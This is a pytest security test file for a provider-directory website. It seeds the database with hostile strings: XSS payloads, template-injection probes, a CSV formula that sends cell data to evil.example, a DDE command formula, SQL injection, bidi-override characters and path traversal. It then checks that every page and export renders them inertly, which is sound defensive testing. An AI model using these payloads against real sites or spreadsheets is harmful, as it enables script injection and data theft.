"""Hostile text in every text column stands harmless wherever it is shown: pages, CSV, JSON, Atom, JSON-LD, SVG.

A made-up directory is poisoned: each provider's rows get one kind of poison in all text columns, so that a column that
is added is tested too. What stays is what no text from outside can reach, named in `OURS`.
"""

import csv
import io
import json
import re
import sqlite3
from urllib.parse import quote

import pytest
from lxml import etree
from selectolax.lexbor import LexborHTMLParser

from pipelines import snapshots
from tests.browsing import Watched, served, started
from tests.serving import Site, database, folder

TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
MARKUP = (
    '</script><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>"\' onmouseover="alert(4)" x=\''
    " style='display:none' ]]> --> </textarea></title></style><iframe src=//evil.example></iframe>{{ 7*191 }}"
    "{% for x in y %} ${7*191} #{7*191} <%= 7*191 %> &lt;b&gt; %3Cscript%3E"
)
POISON = {
    "harbor.example": MARKUP,
    "chain.example": '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "hybrid.example": f"Doctor {TURNING[4]}elpmaxe.live{TURNING[2]}{TURNING} \x00 \x01\x08\x0b\x0c\x1b[3 \ufffe \ufeff",
    "unsure.example": "W" * 10_000,
    "estimate.example": "W" * 10_000,
    "upto.example": "W" * 10_000,
    "tele.example": "javascript:alert(5)//https://evil.example/",
    "kap.example": "<a href='data:text/html,<script>alert(6)</script>'>here</a>",
    "refused.example": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hostile.example": "\t-2+3\r\n+cmd; \\u003cscript\\u003e \u2028\u2029 '; drop table providers; --",
}
# The console refuses a row of more than 50,000 bytes, so that each of these providers has the long text in every third
# column, and together they have it in all.
LONG = ("unsure.example", "estimate.example", "upto.example")
ELSEWHERE = MARKUP  # in rows that are no provider's: registers, laws, corrections
# Columns that no text from outside reaches: ids and what points to them, hashes, times, and codes of our own lists,
# which the reader writes and never a page. Vocabulary and what publishing says of itself are ours as a whole.
OURS = re.compile(
    r"(\w+_)?id|id|code|fact_(a|b|old|new)|sha256|\w+_at|first_seen|last_seen|last_visited|last_changed|status_since|"
    r"received|decided|until|as_of|checked|field|stance|origin|extractor|extractor_version|sense|match|decision|entity|"
    r"(?<!license_)kind|precision|relation|provider_kind"
)
OURS_HERE = {
    ("providers", "status"),
    ("field_states", "state"),
    ("corrections", "state"),
    ("prescribing", "may"),
    ("prescribing", "state"),
    ("prescribing", "credential"),
    ("registers", "state"),
    ("registers", "credentials"),
    ("claims", "rule"),
    ("claims", "review"),
    # Codes in lists, from which searches are made; a page's words never stand in them.
    *(("providers", name) for name in ("routes", "settings", "conditions", "payment", "states_served", "visit_modes")),
    ("providers", "license_outcome"),
    ("providers", "insurance"),
    *(("offers", name) for name in ("route", "setting")),
    *(("prices", name) for name in ("service", "setting", "unit", "price_kind")),
    ("provider_values", "routes"),
}
OUR_TABLES = (
    "sources crawls routes settings conditions credentials payment claim_rules safety_items provider_kinds accuracy "
    "build removed redirects omission_pages conflicts offers"
).split()


def poisoned(value, poison):
    """Return what stands in the place of a value: text, or the same JSON with poison for each text in it."""
    try:
        inside = json.loads(value)
    except (TypeError, ValueError):
        return poison
    if isinstance(inside, bool | int | float | None):
        return value

    def each(one):
        if isinstance(one, dict):
            return {key: each(part) for key, part in one.items()}
        if isinstance(one, list):
            return [each(part) for part in one] or [poison]
        return poison[:500] if isinstance(one, str) else one  # a row of a whole table has a longest length

    return json.dumps(each(inside))


def poison_all(conn):
    """Poison every text column that is not ours; return the (table, column) pairs that were."""
    done = set()
    tables = [row[0] for row in conn.execute("select name from sqlite_master where type = 'table'")]
    for table in (name for name in tables if name not in OUR_TABLES and "fts" not in name and "sqlite" not in name):
        columns = [row[1] for row in conn.execute(f"pragma table_info([{table}])") if row[2] == "TEXT"]
        owner = "id" if table == "providers" else "provider_id" if "provider_id" in columns else None
        for column in columns:
            if OURS.fullmatch(column) or (table, column) in OURS_HERE:
                continue
            done.add((table, column))
            rows = conn.execute(f"select rowid, {owner or 'null'}, [{column}] from [{table}]").fetchall()
            for rowid, provider_id, value in rows:
                poison = POISON.get(provider_id) if owner else ELSEWHERE
                if poison is None:
                    continue
                if provider_id in LONG and columns.index(column) % 3 != LONG.index(provider_id):
                    poison = poison[:400]
                if (table, column) in {("provider_values", "value"), ("registers", "name")}:
                    poison = f"{poison}{rowid}"  # keys stay apart
                conn.execute(f"update [{table}] set [{column}] = ? where rowid = ?", (poisoned(value, poison), rowid))
    return done


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A folder with a poisoned directory and a snapshot of it; the columns that were poisoned."""
    path = folder(tmp_path_factory.mktemp("hostile"))
    (path / "inspect-data.json").unlink()
    with database(path) as conn:
        done = poison_all(conn)
        conn.execute("insert into providers_fts(providers_fts) values ('rebuild')")
        conn.execute("insert into facts_fts(facts_fts) values ('rebuild')")
    snapshots.keep(path / "directory.db", print)
    return path, done


@pytest.fixture(scope="module")
def site(place):
    one = Site(place[0])
    yield one
    one.close()


@pytest.fixture(scope="module")
def addresses(place):
    """Every page on which the poison of a provider may stand, by provider."""
    with database(place[0]) as conn:
        owned = [
            row[0]
            for row in conn.execute("select name from sqlite_master where type = 'table' and name not like '%fts%'")
            if "provider_id" in [column[1] for column in conn.execute(f"pragma table_info([{row[0]}])")]
        ]
        found = {}
        for one in POISON:
            facts = [row[0] for row in conn.execute("select id from facts where provider_id = ? limit 4", [one])]
            found[one] = [
                f"/provider/{one}",
                f"/compare?id={one}&id=range.example",
                f"/?id={one}",
                f"/corrections?provider={one}",
                f"/directory/providers/{one.replace('.', '~2E')}",
                f"/directory/providers?id={one}",
                *(f"/directory/{table}?provider_id={one}" for table in owned),
                *(f"/evidence/{fact}" for fact in facts),
                *(f"/directory/facts/{fact}" for fact in facts[:1]),
                *(f"/corrections?provider={one}&fact={fact}" for fact in facts[:1]),
                f"/directory/evidence_of_a_provider?provider_id={one}&id={one}&provider={one}",
            ]
    return found


EVERYWHERE = [
    "/",
    "/?map=1",
    "/?near=80202&map=1",
    "/?near=80202&route=iv",
    "/?online=CO",
    "/?q=doctor",
    "/corrections",
    "/data",
    "/data/codebook",
    "/about",
    "/legal",
    "/directory",
    "/directory/registers",
    "/directory/prescribing",
    "/directory/dated_rules",
    "/directory/changes",
    "/directory/facts?_facet=quote&_facet=context",
    "/directory/providers?_facet=name&_facet=city",
    "/directory?sql=select+name,+phone,+website+from+providers",
    "/directory/price_changes",
    "/directory/sentences_to_cite",
    "/directory/disagreements",
    "/directory/corrections_answered",
    "/directory/prices_by_route_and_state",
]
ASKED = [  # poison that comes with the request
    "/?q={}",
    "/?near={}",
    "/?id={}",
    "/?route={}",
    "/?sort={}",
    "/provider/{}",
    "/compare?id={}&id=harbor.example",
    "/compare?id=harbor.example&id=kap.example&sessions={}",
    "/evidence/{}",
    "/corrections?provider={}",
    "/data/{}/",
    "/directory/{}",
    "/directory/providers?_search={}",
    "/directory/providers?name={}",
    "/directory/providers?{}=1",
    "/directory/providers/{}",
    "/directory?sql=select+:it&it={}",
    "/directory?sql=select+{}",
    "/{}",
    "/-/{}",
]


def faults(page):
    """Return what a browser would run, load or misread in a page."""
    tree = LexborHTMLParser(page)
    found = []
    for node in tree.css("*"):
        attributes = node.attributes
        for name, value in attributes.items():
            if name.startswith("on") or name in ("style", "srcdoc", "ping", "background"):
                found.append(f"{node.tag} {name}={value}")
            if name in ("href", "src", "action", "formaction", "xlink:href", "data", "poster") and not re.match(
                r"(/(?!/)|#|\?|https?://|tel:|mailto:)", (value or "").strip() or "#", re.I
            ):
                found.append(f"{node.tag} {name}={(value or '')[:60]}")
        if node.tag == "script" and not (attributes.get("src") or "").startswith("/static/site.js"):
            if attributes.get("type") != "application/ld+json":
                found.append(f"script {attributes}")
            else:
                json.loads(node.text(deep=True))
        if node.tag in ("iframe", "object", "embed", "img", "style", "base", "frame", "marquee", "template"):
            found.append(node.tag)
        if node.tag == "link" and not (attributes.get("href") or "").startswith("/"):
            found.append(f"link {attributes}")
    head = page.partition("</head>")[0]
    if head.count("<title>") != 1 or page.count("</html>") != 1 or page.count("<main") != 1:
        found.append("its frame is broken")
    if set(page) & set(TURNING):
        found.append("a mark that turns the direction of writing")
    if "1337" in page:
        found.append("7*191 was worked out")
    return found


def test_every_text_column_is_poisoned_or_ours(place):
    """A column that is added is poisoned by itself: it need not be listed, only what is ours must."""
    _, done = place
    assert len(done) >= 60
    quoted = (
        "facts.quote facts.value clinicians.name pages.url prices.includes licenses.discipline claims.reply changes.new"
    )
    asked = "corrections.asked providers.website second_opinions.quote provider_values.value npi_records.taxonomies"
    for pair in f"{quoted} {asked}".split():
        assert tuple(pair.split(".")) in done, pair


@pytest.mark.parametrize("provider", POISON)
def test_pages_of_a_poisoned_provider_are_harmless(site, addresses, provider):
    for address in addresses[provider]:
        answer = site.get(address)
        assert answer.status_code == 200, f"{address}: {answer.status_code}"
        assert answer.headers["content-type"].startswith("text/html"), address
        assert faults(answer.text) == [], address


@pytest.mark.parametrize("address", EVERYWHERE)
def test_pages_on_which_all_poisons_meet_are_harmless(site, address):
    answer = site.get(address)
    assert answer.status_code == 200 and faults(answer.text) == []


@pytest.mark.parametrize("address", ASKED)
def test_what_a_request_brings_is_harmless(site, address):
    for poison in [*POISON.values(), "%00", "%ff%fe", "../../etc/passwd", "%2e%2e%2f"]:
        given = poison if poison.startswith("%") else quote(poison[:3_000], safe="")
        answer = site.get(address.format(given))
        assert answer.status_code < 500, f"{address} {poison[:40]!r}"
        if answer.headers.get("content-type", "").startswith("text/html") and answer.text.startswith("<!DOCTYPE"):
            assert faults(answer.text) == [], f"{address} {poison[:40]!r}"
        assert "root:" not in answer.text


def test_poison_is_shown_and_not_swallowed(site):
    """Harmless by being written out, not by being left out: the words of a page are evidence."""
    page = LexborHTMLParser(site.get("/provider/harbor.example").text)
    assert "<script>alert(1)</script>" in page.css_first("h1").text()
    assert "{{ 7*191 }}" in page.css_first("main").text()


# --- what programs read ----------------------------------------------------------------------------------------------


def test_no_cell_of_a_csv_is_a_formula(site, place):
    with database(place[0]) as conn:
        tables = [row[0] for row in conn.execute("select name from sqlite_master where type = 'table'")]
    addresses = [f"/directory/{table}.csv?_size=max" for table in tables if "fts" not in table]
    addresses += ["/directory/facts.csv?_stream=on", "/directory.csv?sql=select+*+from+providers", "/data/codebook.csv"]
    for address in addresses:
        answer = site.get(address)
        assert answer.status_code == 200, address
        for row in csv.reader(io.StringIO(answer.text.replace("\x00", ""), newline="")):
            for cell in row:
                start = cell.lstrip(" ")[:1]
                number = re.fullmatch(r"[+-]?[\d.,]+(e[+-]?\d+)?", cell.strip())
                assert start not in ("=", "+", "-", "@", "\t", "\r") or number, f"{address}: {cell[:60]!r}"


@pytest.mark.parametrize("provider", POISON)
def test_json_is_json_and_says_the_same_text(site, provider):
    for address in (f"/api/v1/providers/{provider}", f"/directory/facts.json?provider_id={provider}&_size=max"):
        answer = site.get(address)
        assert answer.status_code == 200 and "json" in answer.headers["content-type"], address
        assert answer.headers["x-content-type-options"] == "nosniff"
        json.loads(answer.text)
    name = site.get(f"/api/v1/providers/{provider}").json()["name"]
    if provider != "hybrid.example":
        assert name is None or POISON[provider].startswith(name)


def test_lists_of_programs_are_whole(site):
    assert site.get("/api/v1/providers").json()["providers"]
    assert site.get("/api/v1/providers.geojson").json()["features"]
    assert site.get("/openapi.json").json()["openapi"]
    answer = site.get("/api/v1/providers.ndjson")
    assert answer.status_code == 200 and answer.text.count("\n") == 26
    assert all(json.loads(line) for line in answer.text.split("\n")[:-1])


@pytest.mark.parametrize("address", ["/changes.atom", "/changes.atom?state=CO", "/changes.atom?field=prices"])
def test_the_feed_is_well_formed(site, address):
    root = etree.fromstring(site.get(address).content)
    for node in root.iter():
        for name, value in node.attrib.items():
            assert name not in ("href", "src") or re.match(r"https?://", value), value
        if node.get("type") in ("html", "xhtml"):
            assert faults(f"<!DOCTYPE html><title></title><main>{node.text or ''}</main></html>") == []


def test_data_for_search_engines_holds_poison_as_text(site):
    for provider in POISON:
        page = LexborHTMLParser(site.get(f"/provider/{provider}").text)
        for node in page.css('script[type="application/ld+json"]'):
            said = json.loads(node.text(deep=True))
            assert "</script" not in node.text(deep=True).lower()
            for key in ("url", "sameAs"):
                assert re.match(r"https?://", str(said.get(key, "https://"))), said[key]


def test_maps_and_charts_are_well_formed_and_hold_only_shapes_and_text(site):
    seen = 0
    for address in (
        "/?map=1",
        "/?near=80202&map=1",
        "/directory/prices_by_route_and_state",
        "/directory/statements_by_rule",
    ):
        for node in LexborHTMLParser(site.get(address).text).css("svg"):
            seen += 1
            tags = {one.tag for one in node.css("*")}
            assert tags <= {"svg", "g", "path", "rect", "circle", "line", "text", "title", "desc", "a", "polyline",
                            "polygon", "tspan", "use", "defs", "ellipse", "pattern", "symbol"}, tags  # fmt: skip
    assert seen


# --- in a browser ----------------------------------------------------------------------------------------------------


@pytest.mark.browser
def test_a_browser_runs_nothing_asks_nobody_and_keeps_its_layout(place, addresses):
    """No dialog, no error of the policy in the console, no request off the host; nothing sticks out of a phone."""
    with served(place[0]) as address, started() as browser:
        one = Watched(browser, address, "phone")
        wide = []
        for path in [*(path for some in addresses.values() for path in some[:4]), *EVERYWHERE]:
            page = one.go(path)
            page.evaluate("for (const one of document.querySelectorAll('details')) one.open = true")
            if page.evaluate("document.documentElement.scrollWidth") > 390:
                wide.append(path)
        page = one.go("/provider/harbor.example")
        page.locator("h1").hover()
        for link in page.locator("main a").all()[:5]:
            link.hover()
        one.close()
        assert wide == []


def test_the_poisoned_file_is_still_a_database(place):
    with sqlite3.connect(place[0] / "directory.db") as conn:
        assert conn.execute("pragma integrity_check").fetchone()[0] == "ok"
        assert conn.execute("select count(*) from providers").fetchone()[0] > 20


def test_control_characters_reach_no_page(tmp_path):
    def told(conn):
        name = "Bell\x07\x00\x1b\x9b\x7f\x0c\r Clinic"
        conn.execute("update providers set name = ? where id = 'harbor.example'", [name])

    one = Site(folder(tmp_path, told))
    for address in ("/provider/harbor.example", "/?q=bell", "/compare?id=harbor.example"):
        page = one.get(address).text
        assert "Bell Clinic" in page and not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", page), address
    one.close()
